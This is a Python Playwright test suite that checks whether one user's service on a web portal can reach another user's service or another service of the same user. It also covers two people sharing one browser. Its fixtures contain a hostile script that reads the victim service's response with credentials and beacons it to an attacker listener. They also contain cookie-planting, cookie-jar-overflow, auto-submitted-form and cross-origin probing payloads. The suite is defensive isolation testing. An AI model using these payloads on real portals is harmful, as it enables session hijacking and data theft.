"""What another user's service, another service of the same user, and another user of the same
browser can do to somebody's service: in a browser, with an origin for each session and with one for
all. The attacker is bob, an ordinary user whose service sends what pages he likes.
"""

from __future__ import annotations

import contextlib
import html
import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import Error as PlaywrightError

from tests.conftest import ROOT, Devcluster, RunningPortal
from tests.echo import Echo, Stack
from tests.firefox import FirefoxPage
from tests.researcher import Researcher
from tests.webuser import Arrival, WebUser

MODES = {"an origin each": "http://*.localhost:${PORT}", "one origin": "http://localhost:${PORT}"}
SHARED = "one origin"


class Attacker:
    """A web server of bob's, which serves pages and hears what his pages find out."""

    def __init__(self) -> None:
        self.pages: dict[str, Callable[[], str]] = {}  # a page, or an address to redirect to
        self.heard: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/heard?"):
                    attacker.heard.append(self.path)
                    self.send_response(204)
                    self.end_headers()
                    return
                found = attacker.pages.get(self.path, lambda: "")()
                self.send_response(302 if found.startswith("http") else 200)
                if found.startswith("http"):
                    self.send_header("Location", found)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(found.encode())

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def serves(self, path: str, page: str) -> None:
        self.pages[path] = lambda: page

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Scene:
    """Running services of carol's and bob's, and a portal to them."""

    portal: RunningPortal
    attacker: Attacker
    bob: WebUser
    bobs: Echo
    first: Echo
    second: Echo
    shared: bool

    def page_of(self, echo: Echo, text: str) -> str:
        """The path of a page that a service serves."""
        return f"{echo.prefix}page?html={quote(text)}"

    @property
    def hostile(self) -> str:
        """bob's page: it says that it runs, and looks for what carol's service answers."""
        home = f"{self.attacker.url}/heard?"
        script = (
            f"new Image().src='{home}runs';fetch('{self.first.origin}{self.first.prefix}',"
            f"{{credentials:'include'}}).then(a=>a.text()).then(t=>new Image().src='{home}'+t)"
        )
        return self.page_of(self.bobs, f"<title>hostile</title><script>{script}</script>")

    def arrives(self) -> Arrival:
        """What bob's browser is led to, with a fresh code."""
        return self.bob.comes_to(self.hostile)

    def link(self) -> str:
        arrival = self.arrives()
        return arrival.origin + arrival.path


@pytest.fixture(scope="module")
def services(
    devcluster: Devcluster, site_config: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Scene]]:
    """A scene for each mode; they share the services."""
    attacker = Attacker()
    scenes: dict[str, Scene] = {}
    for mode, apps_origin in MODES.items():
        directory = tmp_path_factory.mktemp("portal") / "site"
        shutil.copytree(site_config, directory)
        path = directory / "portal.yml"
        settings = yaml.safe_load(path.read_text())
        settings |= {"apps_origin": apps_origin, "app_defs": str(ROOT / "tests/app_defs")}
        path.write_text(yaml.safe_dump(settings))
        portal = RunningPortal(directory, {"OOD_PORTAL_CONFIG": str(path)})
        portal.start()
        shared = mode == SHARED
        stack = Stack(portal, "desktop", devcluster, shared)
        bob, carol = stack.signs_in("bob"), stack.signs_in("carol")
        known = next(iter(scenes.values()), None)
        ids = (
            [known.bobs.id, known.first.id, known.second.id]
            if known
            else [stack.launches(bob), stack.launches(carol), stack.launches(carol)]
        )
        owners = [bob, carol, carol]
        echoes = [Echo(stack, user, id) for user, id in zip(owners, ids, strict=True)]
        for echo in echoes:
            echo.starts()
        bobs, first, second = echoes
        scenes[mode] = Scene(portal, attacker, bob, bobs, first, second, shared)
    yield scenes
    for echo in (scenes[SHARED].bobs, scenes[SHARED].first, scenes[SHARED].second):
        echo.user.post(f"/sessions/{echo.id}/cancel", {})
    for scene in scenes.values():
        scene.portal.stop()
    attacker.stop()


@pytest.fixture(params=list(MODES))
def scene(services: dict[str, Scene], request: pytest.FixtureRequest) -> Scene:
    found = services[request.param]
    found.attacker.heard.clear()
    return found


one_origin = pytest.mark.parametrize("scene", [SHARED], indirect=True)
an_origin_each = pytest.mark.parametrize("scene", ["an origin each"], indirect=True)


def shows(page: Page, scene: Scene, echo: Echo, text: str = "carol's own") -> None:
    """Go to a service, as Connect does, and see a page of it."""
    page.goto(f"{scene.portal.url}{scene.page_of(echo, f'<h1>{text}</h1>')}")
    expect(page.get_by_role("heading", name=text)).to_be_visible()
    assert page.url.startswith(echo.origin + echo.prefix)


@pytest.fixture
def carols(page: Page, scene: Scene) -> Page:
    """carol's browser, which has entered her service."""
    Researcher(page, scene.portal).signs_in("carol")
    shows(page, scene, scene.first)
    return page


def goes(page: Page, address: str) -> None:
    """Go somewhere, wherever that leads."""
    with contextlib.suppress(PlaywrightError):  # it answers with nothing to show
        page.goto(address)


# ---- Another user's service


def _link(page: Page, scene: Scene) -> None:
    goes(page, scene.link())


def _fresh_for_each_visitor(page: Page, scene: Scene) -> None:
    scene.attacker.pages["/fresh"] = scene.link
    goes(page, f"{scene.attacker.url}/fresh")


def _used_before(page: Page, scene: Scene) -> None:
    arrival = scene.arrives()
    assert scene.bobs.exchanges(arrival).status == 303
    goes(page, arrival.origin + arrival.path)


def _prefetched(page: Page, scene: Scene) -> None:
    link = html.escape(scene.link())
    scene.attacker.serves(
        "/prefetch", f'<link rel=prefetch href="{link}"><a href="{link}">here</a>'
    )
    goes(page, f"{scene.attacker.url}/prefetch")
    page.wait_for_timeout(500)
    with page.expect_navigation():
        page.get_by_role("link").click()


def _framed(page: Page, scene: Scene) -> None:
    # The portal is on the same site as this page, so that the portal's cookie comes along.
    for name, address in (
        ("code", scene.link()),
        ("portal", f"{scene.portal.url}{scene.hostile}"),
        ("service", f"{scene.bobs.origin}{scene.hostile}"),
        ("hers", f"{scene.first.origin}{scene.first.prefix}"),
    ):
        scene.attacker.serves(f"/{name}", f'<iframe src="{html.escape(address)}"></iframe>')
        goes(page, f"{scene.attacker.url}/{name}")
        page.wait_for_timeout(300)
        for frame in page.frames[1:]:
            assert "sha256" not in frame.content()


def _posted(page: Page, scene: Scene) -> None:
    for method in ("post", "get"):
        arrival = scene.arrives()
        action, _, code = (arrival.origin + arrival.path).partition("?code=")
        scene.attacker.serves(
            "/form",
            f'<form method={method} action="{action}"><input name=code value="{code}"></form>'
            "<script>document.forms[0].submit()</script>",
        )
        goes(page, f"{scene.attacker.url}/form")
        page.wait_for_url(lambda url: not url.startswith(scene.attacker.url))


def _websocket_first(page: Page, scene: Scene) -> None:
    address = f"{scene.bobs.origin.replace('http', 'ws')}{scene.bobs.prefix}ws"
    scene.attacker.serves("/socket", f"<script>new WebSocket('{address}')</script>")
    goes(page, f"{scene.attacker.url}/socket")
    page.wait_for_timeout(300)
    goes(page, scene.link())


def _without_a_code(page: Page, scene: Scene) -> None:
    goes(page, f"{scene.bobs.origin}{scene.hostile}")
    goes(page, f"{scene.portal.url}{scene.hostile}")
    state = scene.arrives()  # bob's own nonce, with carol's sign-in
    nonce = state.nonce.partition("=")
    to = quote(scene.first.prefix, safe="")
    known = nonce[0].removeprefix("__Host-Http-ood_enter_")
    goes(page, f"{scene.portal.url}/connect?state={known.ljust(64, '0')}&to={to}")
    expect(page.get_by_text("This link has expired")).to_be_visible()


def _nonce_for_the_domain(page: Page, scene: Scene) -> None:
    """Cookies that a page below the same domain sets for all of it."""
    arrival = scene.arrives()
    cookies = [
        f"{arrival.nonce}; path=/",
        f"{arrival.nonce}; path=/; domain=localhost",
        f"{arrival.nonce}; path=/; domain=.localhost",
        f"{arrival.nonce}; path=/; domain={scene.bobs.host.partition(':')[0]}",
    ]
    script = "".join(f"document.cookie='{cookie}';" for cookie in cookies)
    scene.attacker.serves("/cookies", f"<script>{script}</script>")
    goes(page, f"http://evil.localhost:{scene.attacker.port}/cookies")
    goes(page, arrival.origin + arrival.path)


def _after_signing_out(page: Page, scene: Scene) -> None:
    carol = Researcher(page, scene.portal)
    page.goto(f"{scene.portal.url}/")
    carol.signs_out()
    goes(page, scene.link())
    carol.signs_in("carol")
    shows(page, scene, scene.first)


@pytest.mark.parametrize(
    "way",
    [
        _link,
        _fresh_for_each_visitor,
        _used_before,
        _prefetched,
        _framed,
        _posted,
        _websocket_first,
        _without_a_code,
        _nonce_for_the_domain,
        _after_signing_out,
    ],
)
def test_another_users_page_does_not_run(
    carols: Page, scene: Scene, way: Callable[[Page, Scene], None]
) -> None:
    way(carols, scene)
    carols.wait_for_timeout(300)
    assert "hostile" not in carols.title()
    shows(carols, scene, scene.first)  # and carol goes on as before
    assert scene.attacker.heard == []


def test_the_hostile_page_runs_for_bob_himself(scene: Scene, browser: Browser) -> None:
    """The control: when the page does run, the attacker hears of it."""
    context = browser.new_context()
    page = context.new_page()
    Researcher(page, scene.portal).signs_in("bob")
    page.goto(f"{scene.portal.url}{scene.hostile}")
    assert page.title() == "hostile"
    if not scene.shared:  # where it may not load anything from elsewhere
        deadline = time.monotonic() + 60
        while not scene.attacker.heard and time.monotonic() < deadline:
            page.wait_for_timeout(100)
        assert scene.attacker.heard == ["/heard?runs"]
    context.close()


# ---- Another service of the same user

TRIES = """async ([origin, prefix, own]) => {
  const other = origin + prefix, sockets = other.replace("http", "ws");
  const tried = {};
  async function attempt(name, work, patience = 1000) {
    const late = new Promise(done => setTimeout(() => done("nothing"), patience));
    try { tried[name] = String(await Promise.race([work(), late])); }
    catch (error) { tried[name] = "refused"; }
  }
  const read = (address, options) => async () => {
    const answer = await fetch(address, {credentials: "include", ...options});
    return answer.type + " " + answer.status + " " + await answer.text();
  };
  const element = (tag, set) => () => new Promise(done => {
    const made = document.createElement(tag);
    made.onload = () => { let seen = "loaded";
      try { if (tag !== "img" && tag !== "script") seen += made.contentDocument.body.innerText; }
      catch { seen = "refused"; }
      done(seen); };
    made.onerror = () => done("refused");
    set(made);
    document.body.append(made);
  });
  await attempt("fetch", read(other));
  await attempt("its referrer", read(other, {referrer: own}));
  await attempt("no referrer", read(other, {referrerPolicy: "no-referrer"}));
  await attempt("redirect", read("redirect?to=" + encodeURIComponent(other)));
  await attempt("post", read(other, {method: "POST", body: "x"}));
  await attempt("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(sockets + "ws");
    socket.onopen = () => done("open"); socket.onerror = failed; }));
  await attempt("events", () => new Promise((done, failed) => {
    const source = new EventSource(other);
    source.onopen = () => done("open"); source.onerror = failed; }));
  await attempt("frame", element("iframe", made => { made.src = other; }));
  await attempt("object", element("object", made => { made.data = other; }));
  await attempt("image", element("img", made => { made.src = other; }));
  await attempt("script", element("script", made => { made.src = other; }));
  await attempt("module", () => import(other));
  await attempt("worker", () => new Promise((done, failed) => {
    const worker = new Worker(other); worker.onerror = failed; }));
  await attempt("window", () => new Promise(done => {
    const opened = window.open(other, "opened");
    setTimeout(() => { try { done(opened.document.body.innerText || "nothing"); opened.close(); }
      catch { done("refused"); } }, 700); }));
  for (const scope of ["/", "/node/", prefix, own]) {
    const patience = scope === own ? 30000 : 1000;
    await attempt("worker at " + scope, async () => {
      await navigator.serviceWorker.register("worker", {scope}); return "registered"; }, patience);
    await attempt("script at " + scope, async () => {
      await navigator.serviceWorker.register(scope + "worker"); return "registered"; }, patience);
  }
  await attempt("static script", async () => {
    await navigator.serviceWorker.register("/static/js/portal.js"); return "registered"; });
  return tried;
}"""


def reached(found: dict[str, str], scene: Scene) -> set[str]:
    """What a page of the first service reached of the second."""
    own = scene.first.prefix  # where it may have a worker
    assert found.pop(f"worker at {own}") == found.pop(f"script at {own}") == "registered"
    if "The portal stopped the redirect" in found["redirect"]:
        del found["redirect"]
    return {name for name, seen in found.items() if seen not in ("refused", "nothing")}


def test_a_service_reaches_no_other_of_the_same_user(carols: Page, scene: Scene) -> None:
    shows(carols, scene, scene.second, "the other")
    shows(carols, scene, scene.first)
    first, second = scene.first, scene.second
    found: dict[str, str] = carols.evaluate(TRIES, [second.origin, second.prefix, first.prefix])
    assert reached(found, scene) == set(), found
    for other in carols.context.pages[1:]:
        other.close()
    assert scene.second.user.sessions()


@an_origin_each
def test_services_share_nothing_in_the_browser(carols: Page, scene: Scene) -> None:
    keeps = """async () => {
      localStorage.kept = 'secret'; sessionStorage.kept = 'secret';
      document.cookie = 'kept=secret; path=/';
      document.cookie = 'wide=secret; path=/; domain=localhost';
      const cache = await caches.open('kept');
      await cache.put('/kept', new Response('secret'));
      await new Promise(done => { const asked = indexedDB.open('kept'); asked.onsuccess = done; });
    }"""
    sees = """async () => JSON.stringify([localStorage.kept, sessionStorage.kept, document.cookie,
      await caches.keys(), (await indexedDB.databases()).map(one => one.name),
      window.opener === null, window.name])"""
    shows(carols, scene, scene.second, "the other")
    carols.evaluate(keeps)
    assert "secret" in carols.evaluate(sees)
    shows(carols, scene, scene.first)
    assert carols.evaluate(sees) == '[null,null,"",[],[],true,""]'
    carols.goto(f"{scene.second.origin}{scene.second.prefix}")
    assert "wide" not in carols.content()  # nor does a service get another one's cookies
    assert "kept=secret" in carols.content()


# ---- What a service's page puts into the browser


def test_cookies_that_a_page_plants_let_in_nobody(carols: Page, scene: Scene) -> None:
    """carol runs a page of bob's in her own container. It plants bob's cookies."""
    arrival = scene.arrives()
    entry = scene.bob.enters(scene.bobs.prefix)
    paths = ["/", "/enter", "/node/", scene.bobs.prefix, scene.first.prefix]
    carols.evaluate(
        """([cookies, paths]) => { for (const cookie of cookies) for (const path of paths)
          for (const more of ["", "; domain=localhost", "; max-age=9999", "; secure"])
            document.cookie = `${cookie}; path=${path}${more}`; }""",
        [[entry, arrival.nonce], paths],
    )
    for address in (
        arrival.origin + arrival.path,
        f"{scene.bobs.origin}{scene.hostile}",
        f"{scene.portal.url}{scene.hostile}",
    ):
        goes(carols, address)
        assert "hostile" not in carols.title()
    assert scene.attacker.heard == []


FILLS = """([entry, nonce]) => {
  for (let n = 0; n < 1000; n++) document.cookie = `fill${n}=x; path=/; secure`;
  for (let n = 0; n < 1000; n++) document.cookie = `fill${n}=; path=/; max-age=0`;
  for (const cookie of [entry, nonce, entry.replace("__Host-Http-", "")])
    for (const more of ["", "; secure"]) document.cookie = `${cookie}; path=/${more}`; }"""
"""A browser keeps about 180 cookies of a host, and forgets others, HttpOnly or not."""


def test_a_full_cookie_jar_lets_in_nobody(carols: Page, scene: Scene) -> None:
    arrival = scene.arrives()
    carols.evaluate(FILLS, [scene.bob.enters(scene.bobs.prefix), arrival.nonce])
    asks = "path => fetch(path).then(answer => answer.status)"
    assert carols.evaluate(asks, scene.first.prefix) == 403  # hers was forgotten
    for address in (
        arrival.origin + arrival.path,
        f"{scene.bobs.origin}{scene.hostile}",
        f"{scene.first.origin}{scene.hostile}",
    ):
        goes(carols, address)
        assert "hostile" not in carols.title()
    shows(carols, scene, scene.first)
    assert scene.attacker.heard == []


def test_redirects_to_the_entrance_lead_nowhere(carols: Page, scene: Scene) -> None:
    arrival = scene.arrives()
    for to in (
        arrival.path,
        arrival.origin + arrival.path,
        f"/enter?to={quote(scene.hostile, safe='')}",
        f"{scene.bobs.origin}{scene.hostile}",
    ):
        goes(carols, f"{scene.first.origin}{scene.first.prefix}redirect?to={quote(to, safe='')}")
        assert "hostile" not in carols.title()
    assert scene.attacker.heard == []
    shows(carols, scene, scene.first)


# ---- Two users of one browser


@pytest.mark.parametrize("signs_out", [True, False])
def test_two_users_of_one_browser_one_after_the_other(
    carols: Page, scene: Scene, signs_out: bool
) -> None:
    carols.evaluate("localStorage.kept = 'secret'")
    carols.evaluate("navigator.serviceWorker.register('worker').then(() => true)")
    tab = carols.context.new_page()  # which stays open
    shows(tab, scene, scene.second)
    tab.evaluate(
        """path => new Promise(done => { window.closed_by = null;
          const socket = new WebSocket(path); socket.onopen = done;
          socket.onclose = () => { window.closed_by = "portal"; }; })""",
        f"{scene.second.origin.replace('http', 'ws')}{scene.second.prefix}ws",
    )
    researcher = Researcher(carols, scene.portal)
    if signs_out:
        carols.goto(f"{scene.portal.url}/")
        researcher.signs_out()
        researcher.signs_in("bob")
    else:  # a sign-in form that was left open
        carols.goto(f"{scene.portal.url}/")
        carols.evaluate(
            """async () => {
              const csrf_token = document.querySelector("[name=csrf_token]").value;
              const given = {csrf_token, username: "bob", password: "bob-pw"};
              const body = new URLSearchParams(given);
              await fetch("/login", {method: "POST", body}); }"""
        )
        carols.goto(f"{scene.portal.url}/")
    expect(carols.get_by_text("Signed in as bob")).to_be_attached()
    tab.wait_for_function("window.closed_by === 'portal'", polling=100)  # it is not painted
    status = tab.evaluate("fetch(location.pathname).then(answer => answer.status)")
    assert status == 403
    goes(tab, f"{scene.second.origin}{scene.second.prefix}")
    expect(tab.get_by_text("Session not found")).to_be_visible()
    shows(carols, scene, scene.bobs, "bob's own")
    if scene.shared:
        left = carols.evaluate(
            """async () => [localStorage.length,
              (await navigator.serviceWorker.getRegistrations()).length]"""
        )
        assert left == [0, 0]
    goes(tab, f"{scene.first.origin}{scene.first.prefix}")
    expect(tab.get_by_text("Session not found")).to_be_visible()


def test_the_same_user_finds_what_was_kept(carols: Page, scene: Scene) -> None:
    carols.evaluate("localStorage.kept = 'mine'")
    carols.goto(f"{scene.portal.url}/")
    carol = Researcher(carols, scene.portal)
    carol.signs_out()
    carol.signs_in("carol")
    shows(carols, scene, scene.first)
    assert carols.evaluate("localStorage.kept") == "mine"


def test_a_bookmark_of_a_service_comes_back_after_signing_in(page: Page, scene: Scene) -> None:
    address = f"{scene.first.origin}{scene.page_of(scene.first, '<h1>kept</h1>')}#part"
    page.goto(address)
    page.get_by_role("link", name="Sign in").click()
    page.get_by_label("User name").fill("carol")
    page.get_by_label("Password").fill("carol-pw")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="kept")).to_be_visible()
    assert page.url.startswith(f"{scene.first.origin}{scene.first.prefix}page")


# ---- In Firefox


def test_the_same_in_firefox(firefox_page: FirefoxPage, scene: Scene) -> None:
    page = firefox_page
    page.goto(f"{scene.portal.url}/login")
    page.types("[name=username]", "carol")
    page.types("[name=password]", "carol-pw")
    page.clicks("main form button")
    page.waits_for("document.querySelector('form.log-out') !== null")
    hers = f"{scene.portal.url}{scene.page_of(scene.first, '<h1>hers</h1>')}"
    scene.attacker.pages["/fresh"] = scene.link
    for address in (
        scene.link(),
        f"{scene.attacker.url}/fresh",
        f"{scene.bobs.origin}{scene.hostile}",
        f"{scene.portal.url}{scene.hostile}",
    ):
        page.goto(address)
        assert page.evaluate("document.title") != "hostile"
        page.goto(hers)
        assert page.text == "hers"
        assert page.url.startswith(scene.first.origin + scene.first.prefix)
    assert scene.attacker.heard == []
    second = scene.second
    page.goto(f"{scene.portal.url}{second.prefix}")
    page.goto(hers)
    given = json.dumps([second.origin, second.prefix, scene.first.prefix])
    found: dict[str, str] = page.evaluate(f"({TRIES})({given})", 180)
    assert reached(found, scene) == set()
